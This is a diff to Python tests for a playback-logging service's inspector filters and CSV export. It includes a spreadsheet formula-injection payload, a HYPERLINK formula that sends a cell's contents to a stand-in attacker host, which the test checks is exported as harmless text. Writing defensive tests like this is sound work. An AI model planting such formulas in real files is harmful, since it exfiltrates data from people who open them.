@@ -128,14 +128,28 @@ def test_a_signed_in_member_and_a_station_terminal_are_named_in_the_playback(
         assert tv.get(f"/t/{token}", follow_redirects=True).status_code == 200
         first = guest.get("/api/items").json()["items"][0]
         for browser in (member, tv, guest):
-            browser.get(f"/stream/{first['id']}", headers={"Range": "bytes=0-99"})
+            browser.get(f"/stream/{first['id']}?session=7", headers={"Range": "bytes=0-99"})
         with closing(inspector(url, db)) as staff:
             found = wait_closed(staff, 3)
+            # The inspector's filters, and the CSV with the same columns.
+            by = [staff.get("/api/playbacks", params={name: value}).json()["total"]
+                  for name, value in (("station", "CG-001"), ("member", "zhangsan"),
+                                      ("session", "7"), ("session", "8"),
+                                      ("title", first["title"][1:3] or first["title"]),
+                                      ("title", "%"))]
+            csv_rows = staff.get("/api/playbacks?format=csv&member=zhangsan").text.splitlines()
+            too_long = staff.get("/api/playbacks", params={"title": "长" * 101})
     with db.engine.connect() as connection:
         opened = [e.data for e in rows(connection, "XC-012") if e.kind == "playback.open"]
     assert sorted((str(d["member"]), d["station"]) for d in opened) == [
         ("None", "CG-001"), ("None", "XC-012"), ("user:zhangsan", "XC-012")]
     assert sorted(p["station"] for p in found) == ["CG-001", "XC-012", "XC-012"]
+    assert sorted(str(p["member"]) for p in found) == ["None", "None", "zhangsan"]
+    assert {p["session"] for p in found} == {7}
+    assert by == [1, 1, 3, 0, 3, 0]  # a % in a title filter is a %, not "anything"
+    assert csv_rows[0].lstrip("\ufeff").split(",")[:4] == ["台账序号", "站点", "活动", "党员账号"]
+    assert len(csv_rows) == 2 and ",7,zhangsan," in csv_rows[1]
+    assert too_long.status_code == 400 and too_long.json()["error"] == "bad_filter"
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
@@ -160,5 +174,5 @@ def test_the_csv_export_runs_no_formula_from_a_title(
             wait_closed(staff, 1)
             csv_text = staff.get("/api/playbacks?format=csv").content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(csv_text)))
-    assert rows[1][3] == "'" + FORMULA  # shown as text, never run
+    assert rows[1][5] == "'" + FORMULA  # shown as text, never run
     assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
